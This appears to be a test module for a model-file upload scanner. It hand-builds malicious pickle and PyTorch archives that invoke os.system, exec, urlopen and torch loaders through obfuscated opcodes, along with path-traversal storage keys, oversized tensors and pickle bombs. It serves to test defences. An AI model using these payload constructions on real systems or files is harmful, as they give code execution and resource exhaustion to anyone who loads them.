"""Pickles and PyTorch files, written instruction by instruction: no class of ours and no framework makes them."""

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

from tests.admission.attacks import Bait, add, attack

PROTO, STOP, MARK, REDUCE, BUILD = b"\x80\x02", b".", b"(", b"R", b"b"
TUPLE, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, SET_ITEMS, APPEND, PERSISTENT = b"t", b")", b"}", b"]", b"u", b"a", b"Q"
FALSE, NONE, POP = b"\x89", b"N", b"0"
LEGACY = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def number(value: int) -> bytes:
    encoded = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + encoded


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def of(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + of(*arguments) + REDUCE


def dictionary(**items: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(text(key) + value for key, value in items.items()) + SET_ITEMS


def storage(count: int, key: str = "0", kind: str = "FloatStorage", place: str = "cpu") -> bytes:
    return of(text("storage"), name("torch", kind), text(key), text(place), number(count)) + PERSISTENT


def tensor(held: bytes, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    sizes, strides = of(*map(number, size)), of(*map(number, stride))
    empty = call(name("collections", "OrderedDict"))
    return call(name("torch._utils", "_rebuild_tensor_v2"), held, number(offset), sizes, strides, FALSE, empty)


def in_zip(path: Path, content: bytes, numbers: bytes = bytes(16), **members: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", numbers)
        archive.writestr("archive/version", b"3\n")
        for member, inside in members.items():
            archive.writestr(f"archive/{member.replace('__', '/')}", inside)


def in_legacy(path: Path, content: bytes, keys: bytes = b"\x80\x02].", numbers: bytes = b"") -> None:
    parts = [pickle.dumps(part, protocol=2) for part in LEGACY]
    path.write_bytes(b"".join([*parts, content, keys, numbers]))


CALLS = "pickle that calls code"


def _system(bait: Bait, module: str = "os", function: str = "system") -> bytes:
    return PROTO + call(name(module, function), text(bait.command)) + STOP


for module, function in (
    ("os", "system"),
    ("posix", "system"),
    ("subprocess", "getoutput"),
    ("builtins", "exec"),
    ("commands", "getoutput"),
    ("runpy", "run_path"),
    ("numpy.testing._private.utils", "runstring"),
    ("torch.serialization", "load"),
    ("torch.hub", "load"),
    ("torch.storage", "_load_from_bytes"),
    ("torch.utils.cpp_extension", "load"),
):
    add(
        CALLS,
        f"{module}.{function} in a zip",
        lambda path, bait, made=(module, function): in_zip(path, _system(bait, *made)),
        opened_by="torch" if module == "torch.storage" else "",
    )


@attack(CALLS, code="unsafe-pickle")
def protocol_0_as_text(path: Path, bait: Bait) -> None:
    path.write_bytes(f"cposix\nsystem\n(S'{bait.command}'\ntR.".encode())


@attack(CALLS, code="unsafe-pickle")
def stack_global_of_protocol_4(path: Path, bait: Bait) -> None:
    texts = b"".join(b"\x8c" + bytes([len(part)]) + part for part in (b"posix", b"system"))
    path.write_bytes(b"\x80\x04" + texts + b"\x93" + of(text(bait.command)) + REDUCE + STOP)


@attack(CALLS, code="unsafe-pickle")
def name_from_the_memo(path: Path, bait: Bait) -> None:
    """The two words of the function are kept first and fetched in the other order."""
    kept = text("system") + b"q\x01" + POP + text("posix") + b"q\x02" + POP
    path.write_bytes(b"\x80\x04" + kept + b"h\x02h\x01\x93" + of(text(bait.command)) + REDUCE + STOP)


@attack(CALLS)
def name_glued_together(path: Path, bait: Bait) -> None:
    """The module is the answer of a harmless call, which a reader of instructions alone cannot know."""
    glued = call(name("collections", "OrderedDict"))
    path.write_bytes(b"\x80\x04" + glued + text("system") + b"\x93" + of(text(bait.command)) + REDUCE + STOP)


@attack(CALLS, code="unsafe-pickle")
def inst_instruction(path: Path, bait: Bait) -> None:
    path.write_bytes(PROTO + MARK + text(bait.command) + b"iposix\nsystem\n" + STOP)


@attack(CALLS, code="unsafe-pickle")
def attribute_of_a_harmless_module(path: Path, bait: Bait) -> None:
    """torch.os.system is reached through a name that begins well."""
    in_zip(path, PROTO + call(name("torch", "os.system"), text(bait.command)) + STOP)


@attack(CALLS, code="unsafe-pickle")
def extension_registry(path: Path, _bait: Bait) -> None:
    path.write_bytes(PROTO + b"\x82\x01" + EMPTY_TUPLE + REDUCE + call(name("copyreg", "add_extension")) + STOP)


@attack(CALLS, code="unsafe-pickle")
def a_connection(path: Path, bait: Bait) -> None:
    in_zip(path, PROTO + call(name("urllib.request", "urlopen"), text(bait.url)) + STOP)


@attack(CALLS, code="unsafe-pickle")
def behind_sound_weights(path: Path, bait: Bait) -> None:
    sound = dictionary(weight=tensor(storage(4), (2, 2), (2, 1)))
    in_zip(path, PROTO + sound + POP + call(name("os", "system"), text(bait.command)) + STOP)


@attack(CALLS, code="unsafe-pickle")
def in_the_legacy_files_last_pickle(path: Path, bait: Bait) -> None:
    in_legacy(path, PROTO + EMPTY_DICT + STOP, keys=_system(bait))


@attack(CALLS, code="unsafe-pickle")
def in_the_legacy_files_object(path: Path, bait: Bait) -> None:
    in_legacy(path, _system(bait))


@attack(CALLS)
def a_second_pickle_in_the_zip(path: Path, bait: Bait) -> None:
    """Only data.pkl is ever read."""
    in_zip(path, PROTO + EMPTY_DICT + STOP, data__evil__pkl=_system(bait))


GADGETS = "pickle of allowed names only"


@attack(GADGETS, opened_by="torch")
def default_dictionary_of_a_tensor_maker(path: Path, _bait: Bait) -> None:
    maker = name("torch._utils", "_rebuild_tensor_v2")
    in_zip(path, PROTO + call(name("collections", "defaultdict"), maker) + STOP)


@attack(GADGETS, opened_by="torch")
def state_that_replaces_methods(path: Path, bait: Bait) -> None:
    made = tensor(storage(4), (2, 2), (2, 1))
    state = dictionary(__reduce__=text(bait.command), __class__=text("posix.system"))
    in_zip(path, PROTO + dictionary(weight=made + state + BUILD) + STOP)


@attack(GADGETS, opened_by="torch")
def a_tensor_made_of_texts(path: Path, _bait: Bait) -> None:
    broken = call(name("torch._utils", "_rebuild_tensor_v2"), *[text("x")] * 6)
    in_zip(path, PROTO + dictionary(weight=broken) + STOP)


@attack(GADGETS, opened_by="torch")
def a_storage_that_is_a_dictionary(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + dictionary(weight=tensor(EMPTY_DICT, (2,), (1,))) + STOP)


@attack(GADGETS, opened_by="torch")
def a_foreign_persistent_name(path: Path, bait: Bait) -> None:
    in_zip(path, PROTO + dictionary(weight=of(text("module"), text(str(bait.secret))) + PERSISTENT) + STOP)


@attack(GADGETS, opened_by="torch")
def a_storage_key_that_goes_up(path: Path, bait: Bait) -> None:
    in_zip(path, PROTO + dictionary(weight=tensor(storage(4, f"../../..{bait.secret}"), (2, 2), (2, 1))) + STOP)


@attack(GADGETS, opened_by="torch")
def a_tensor_on_another_device(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + dictionary(weight=tensor(storage(4, place="xla:0"), (2, 2), (2, 1))) + STOP)


@attack(GADGETS, opened_by="torch")
def an_ordered_dictionary_in_itself(path: Path, _bait: Bait) -> None:
    made = call(name("collections", "OrderedDict")) + b"q\x01"
    in_zip(path, PROTO + made + MARK + text("state_dict") + b"h\x01" + SET_ITEMS + STOP)


SIZES = "tensor that claims more than it has"
for label, claimed, size, stride, offset in (
    ("a storage of 4 TB", 10**12, (10**6, 10**6), (10**6, 1), 0),
    ("a storage of 2^62", 2**62, (2, 2), (2, 1), 0),
    ("a negative storage", -4, (2, 2), (2, 1), 0),
    ("one number as 40 GB", 4, (10**5, 10**5), (0, 0), 0),
    ("one number as 2^60", 4, (2**30, 2**30), (0, 0), 0),
    ("strides beyond the storage", 4, (2, 2), (10**9, 1), 0),
    ("negative strides", 4, (2, 2), (-1, -1), 3),
    ("a negative offset", 4, (2, 2), (2, 1), -1000),
    ("an offset of 2^62", 4, (2, 2), (2, 1), 2**62),
    ("negative sizes", 4, (-1, 2), (2, 1), 0),
    ("a product beyond 64 bits", 4, (2**40, 2**40), (2**40, 1), 0),
):
    made = dictionary(weight=tensor(storage(claimed), size, stride, offset))
    add(SIZES, label, lambda path, _bait, made=made: in_zip(path, PROTO + made + STOP), opened_by="torch")

BOMBS = "pickle bomb"


@attack(BOMBS, opened_by="torch")
def a_memo_place_of_two_thousand_million(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + EMPTY_DICT + b"r" + struct.pack("<I", 2**31) + STOP)


@attack(BOMBS, opened_by="torch")
def lists_that_double_forty_times(path: Path, _bait: Bait) -> None:
    """Two words at each level, a million million at the end for whoever walks through them."""
    content = EMPTY_LIST + b"q\x00"
    for level in range(40):
        content += EMPTY_LIST + b"q" + bytes([level + 1]) + (b"h" + bytes([level]) + APPEND) * 2
    in_zip(path, PROTO + dictionary(state_dict=content) + STOP)


@attack(BOMBS, opened_by="torch")
def tuples_a_hundred_thousand_deep(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + EMPTY_TUPLE + b"\x85" * 100_000 + STOP)


@attack(BOMBS, opened_by="torch")
def two_million_instructions(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + EMPTY_LIST + (NONE + APPEND) * 10**6 + STOP)


@attack(BOMBS)
def a_text_that_claims_four_gigabytes(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + b"X" + struct.pack("<I", 0xFFFF_FFF0) + b"short" + STOP)


@attack(BOMBS)
def a_number_of_two_gigabytes(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"1" + STOP)


@attack(BOMBS)
def a_frame_of_2_to_the_60(path: Path, _bait: Bait) -> None:
    path.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"}.")


@attack(BOMBS, opened_by="torch")
def three_hundred_thousand_tensors(path: Path, _bait: Bait) -> None:
    """Each is sound; together they would keep the portal busy."""
    one = storage(4) + b"q\x01" + POP
    item = b"".join(
        text(f"w{n}")
        + call(
            name("torch._utils", "_rebuild_tensor_v2"), b"h\x01", number(0), of(number(2)), of(number(1)), FALSE, NONE
        )
        for n in range(60_000)
    )
    in_zip(path, PROTO + one + EMPTY_DICT + MARK + item + SET_ITEMS + STOP)


FORMATS = "PyTorch's other formats"


@attack(FORMATS, code="torchscript")
def torchscript(path: Path, bait: Bait) -> None:
    in_zip(
        path, PROTO + EMPTY_DICT + STOP, code____torch____py=bait.command.encode(), **{"constants.pkl": _system(bait)}
    )


@attack(FORMATS)
def tar_of_before_version_0_2(path: Path, bait: Bait) -> None:
    with tarfile.open(path, "w") as archive:
        for member in ("sys_info", "pickle", "tensors", "storages"):
            content = _system(bait)
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))


@attack(FORMATS, opened_by="torch")
def legacy_storage_that_is_cut(path: Path, _bait: Bait) -> None:
    held = of(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), number(10**9), NONE) + PERSISTENT
    keys = pickle.dumps(["0"], protocol=2)
    in_legacy(path, PROTO + dictionary(weight=tensor(held, (2,), (1,))) + STOP, keys, struct.pack("<q", 10**9))


@attack(FORMATS, opened_by="torch")
def byte_order_of_another_world(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + dictionary(weight=tensor(storage(4), (2, 2), (2, 1))) + STOP, **{".format_version": b"99"})


@attack("whole pickled model", code="pickled-model")
def a_class_of_theirs(path: Path, _bait: Bait) -> None:
    in_zip(path, PROTO + call(name("__main__", "SkinNet")) + STOP)


@attack("scikit-learn pickle")
def random_forest(path: Path, bait: Bait) -> None:
    made = call(name("sklearn.ensemble._forest", "RandomForestClassifier"))
    path.write_bytes(PROTO + made + POP + call(name("os", "system"), text(bait.command)) + STOP)
